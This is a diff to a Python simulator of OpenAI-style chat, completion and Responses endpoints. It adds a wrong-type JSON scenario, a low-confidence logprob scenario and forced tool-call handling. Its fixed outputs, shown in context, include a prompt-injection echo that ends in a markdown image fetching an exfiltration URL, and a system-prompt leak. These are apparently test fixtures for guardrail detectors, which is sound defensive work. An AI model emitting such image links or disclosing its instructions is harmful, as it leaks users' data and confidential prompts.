@@ -16,11 +16,13 @@ compare against):
     sim-slow              like sim-echo, after ``x-sim-first-token-ms`` (default 2000)
     sim-drop              sends about three chunks, then breaks the connection
     sim-error-500         500 with an OpenAI error body
-    sim-<scenario>        the fixed texts in ``SCENARIO_OUTPUTS`` (PII, secrets, JSON, ...)
+    sim-<scenario>        the fixed texts in ``SCENARIO_OUTPUTS`` (PII, secrets, JSON, a wrong
+                          JSON type, injection echo, system-prompt leak, ungrounded, refusal)
 
     header                     effect (any model)
     x-sim-output               base64(UTF-8) output text
     x-sim-tool-call            NAME: the output becomes the arguments of a call to NAME
+                               (without it, a ``tool_choice`` naming a function does the same)
     x-sim-tool-calls           base64(JSON [{"name", "arguments"}, ...]): parallel tool calls
     x-sim-chunk-chars          characters (code points) per streamed chunk, default 4
     x-sim-delay-ms             time between streamed chunks, default 0: chunk i is due
@@ -132,6 +134,8 @@ SCENARIO_OUTPUTS: dict[str, str] = {
     ),
     "sim-json-fenced": f"Here is the JSON you asked for:\n\n```json\n{_JSON_OBJECT}\n```",
     "sim-json-truncated": _JSON_OBJECT[:100],
+    # valid JSON of the wrong type for a schema wanting a numeric price (the demo asks for one)
+    "sim-json-wrong-type": '{"product": "Desk lamp", "price": "twelve euros", "in_stock": true}',
     "sim-injection": (
         f"As the retrieved document instructs: {INJECTION_PHRASE} Loading your summary now: ![x]({EXFIL_URL})"
     ),
@@ -143,6 +147,11 @@ SCENARIO_OUTPUTS: dict[str, str] = {
     "sim-grounded": 'Based on the context you provided: "{quote}"',
     "sim-system-leak": "Sure! Here are the instructions I was given:\n\n{system}",
     "sim-refusal": "I'm sorry, but I can't help with that.",
+    # its logprobs are low throughout: a model guessing (the uncertainty detector's case)
+    "sim-uncertain": (
+        "The release probably added calendar sharing and perhaps a new export format, although the "
+        "migration steps for older versions were not described in enough detail to be sure."
+    ),
 }
 
 SCENARIO_FINISH_REASONS: dict[str, str] = {"sim-json-truncated": "length"}
@@ -219,6 +228,7 @@ class Plan:
     first_token_s: float
     drop: bool
     prompt_tokens: int
+    unsure: bool = False  # low-confidence logprobs (sim-uncertain)
     # set after planning (SimulatorApp._behave): the identity the answer reports and, for the
     # behaviour models, the logprob every token carries
     system_fingerprint: str = SYSTEM_FINGERPRINT
@@ -307,6 +317,32 @@ def scenario_output(model: str, system: str | None, first_context: str) -> str |
     return template
 
 
+def forced_function(body: dict[str, Any]) -> str | None:
+    """The function a request forces: ``tool_choice`` naming one (chat:
+    ``{"type": "function", "function": {"name": ...}}``; Responses: ``{"type": "function",
+    "name": ...}``), or ``"required"`` with a single function tool. Clients that extract
+    structured output through a forced call (instructor, langchain, litellm) need exactly one
+    call to it back."""
+    choice = body.get("tool_choice")
+    if isinstance(choice, dict) and choice.get("type") == "function":
+        fn = choice.get("function")
+        name = fn.get("name") if isinstance(fn, dict) else choice.get("name")
+        return name if isinstance(name, str) and name else None
+    if choice == "required":
+        names = [_tool_name(t) for t in body.get("tools") or [] if isinstance(t, dict)]
+        names = [n for n in names if n]
+        return names[0] if len(names) == 1 else None
+    return None
+
+
+def _tool_name(tool: dict[str, Any]) -> str | None:
+    if tool.get("type") != "function":
+        return None
+    fn = tool.get("function")
+    name = fn.get("name") if isinstance(fn, dict) else tool.get("name")
+    return name if isinstance(name, str) and name else None
+
+
 def estimate_tokens(text: str) -> int:
     """Deterministic token estimate: one token per four characters, rounded up."""
     return (len(text) + 3) // 4
@@ -376,17 +412,20 @@ _ALT_TOKENS = (
 )
 
 
-def _logprob_of(token: str) -> float:
-    """Mostly confident (p > 0.95); about one token in ten is uncertain (p 0.05 to 0.5)."""
+def _logprob_of(token: str, unsure: bool = False) -> float:
+    """Mostly confident (p > 0.95); about one token in ten is uncertain (p 0.05 to 0.5).
+    ``unsure`` (the ``sim-uncertain`` scenario): every token is (p 0.006 to 0.5)."""
     h = zlib.crc32(token.encode("utf-8"))
     u = (h & 0xFFFF) / 65536.0
+    if unsure:
+        return round(-(0.7 + 4.4 * u), 6)
     if (h >> 16) % 10 == 0:
         return round(-(0.7 + 2.3 * u), 6)
     return round(-0.05 * u, 6)
 
 
-def _logprob_entry(token: str, top_n: int, logprob: float | None = None) -> dict[str, Any]:
-    lp = _logprob_of(token) if logprob is None else round(logprob, 6)
+def _logprob_entry(token: str, top_n: int, unsure: bool = False, logprob: float | None = None) -> dict[str, Any]:
+    lp = _logprob_of(token, unsure) if logprob is None else round(logprob, 6)
     entry: dict[str, Any] = {
         "token": token,
         "logprob": lp,
@@ -409,9 +448,9 @@ def _logprob_entry(token: str, top_n: int, logprob: float | None = None) -> dict
     return entry
 
 
-def _completion_logprobs(tokens: list[str], top_n: int, offset: int) -> dict[str, Any]:
+def _completion_logprobs(tokens: list[str], top_n: int, offset: int, unsure: bool = False) -> dict[str, Any]:
     """Legacy completions logprobs shape (parallel arrays)."""
-    entries = [_logprob_entry(t, top_n) for t in tokens]
+    entries = [_logprob_entry(t, top_n, unsure) for t in tokens]
     offsets = []
     pos = offset
     for t in tokens:
@@ -871,6 +910,10 @@ class SimulatorApp:
                     tool_calls.append((c["name"], args if isinstance(args, str) else orjson.dumps(args).decode()))
             elif "x-sim-tool-call" in headers:
                 tool_calls.append((headers["x-sim-tool-call"], texts[0]))
+            else:
+                forced = forced_function(body)
+                if forced is not None:  # as a provider does: exactly one call to the named function
+                    tool_calls.append((forced, texts[0]))
         if tool_calls:
             finish = "tool_calls"
         else:
@@ -888,6 +931,7 @@ class SimulatorApp:
             first_token_s=_number_header(headers, "x-sim-first-token-ms", first_default) / 1000.0,
             drop=model == "sim-drop",
             prompt_tokens=(prompt_chars + 3) // 4,
+            unsure=model == "sim-uncertain",
         )
 
     # -- non-streaming ------------------------------------------------------------------------
@@ -1170,7 +1214,8 @@ def _chat_completion(body: dict[str, Any], model: str, plan: Plan) -> dict[str, 
         if body.get("logprobs") is True and not plan.tool_calls:
             top_n = _top_n(body)
             logprobs = {
-                "content": [_logprob_entry(t, top_n, plan.token_logprob) for t in _chunks(text, plan.chunk_chars)],
+                "content": [_logprob_entry(t, top_n, plan.unsure, plan.token_logprob)
+                            for t in _chunks(text, plan.chunk_chars)],
                 "refusal": None,
             }
         choices.append({"index": i, "message": message, "logprobs": logprobs, "finish_reason": plan.finish_reason})
@@ -1259,8 +1304,8 @@ def _chat_stream_steps(body: dict[str, Any], model: str, plan: Plan) -> list[lis
             ]
         )
         for piece in _chunks(plan.texts[0], plan.chunk_chars):
-            logprobs = ({"content": [_logprob_entry(piece, top_n, plan.token_logprob)], "refusal": None}
-                        if want_logprobs else None)
+            logprobs = ({"content": [_logprob_entry(piece, top_n, plan.unsure, plan.token_logprob)],
+                         "refusal": None} if want_logprobs else None)
             steps.append(
                 [
                     event({"index": i, "delta": {"content": piece}, "logprobs": logprobs, "finish_reason": None})
@@ -1314,7 +1359,7 @@ def _text_completion(body: dict[str, Any], model: str, plan: Plan) -> dict[str, 
     for p, text in enumerate(plan.texts):
         logprobs = None
         if top_n is not None:
-            logprobs = _completion_logprobs(_chunks(text, plan.chunk_chars), top_n, 0)
+            logprobs = _completion_logprobs(_chunks(text, plan.chunk_chars), top_n, 0, plan.unsure)
         for i in range(n):
             choices.append(
                 {"text": text, "index": p * n + i, "logprobs": logprobs, "finish_reason": plan.finish_reason}
@@ -1356,7 +1401,7 @@ def _completion_stream_steps(body: dict[str, Any], model: str, plan: Plan) -> li
             if k >= len(pieces):
                 continue
             offset = k * plan.chunk_chars
-            logprobs = _completion_logprobs([pieces[k]], top_n, offset) if top_n is not None else None
+            logprobs = _completion_logprobs([pieces[k]], top_n, offset, plan.unsure) if top_n is not None else None
             for i in range(n):
                 step.append(
                     event([{"text": pieces[k], "index": p * n + i, "logprobs": logprobs, "finish_reason": None}])
@@ -1399,7 +1444,7 @@ def _response_output(plan: Plan, body: dict[str, Any]) -> list[dict[str, Any]]:
     top_n = _responses_logprobs(body)
     part: dict[str, Any] = {"type": "output_text", "text": text, "annotations": []}
     if top_n is not None:
-        part["logprobs"] = [_logprob_entry(t, top_n) for t in _chunks(text, plan.chunk_chars)]
+        part["logprobs"] = [_logprob_entry(t, top_n, plan.unsure) for t in _chunks(text, plan.chunk_chars)]
     return [
         {
             "type": "message",
@@ -1561,7 +1606,7 @@ def _response_stream_steps(body: dict[str, Any], model: str, plan: Plan) -> list
                             "output_index": 0,
                             "content_index": 0,
                             "delta": piece,
-                            "logprobs": [_logprob_entry(piece, top_n)] if top_n is not None else [],
+                            "logprobs": [_logprob_entry(piece, top_n, plan.unsure)] if top_n is not None else [],
                         }
                     )
                 ]
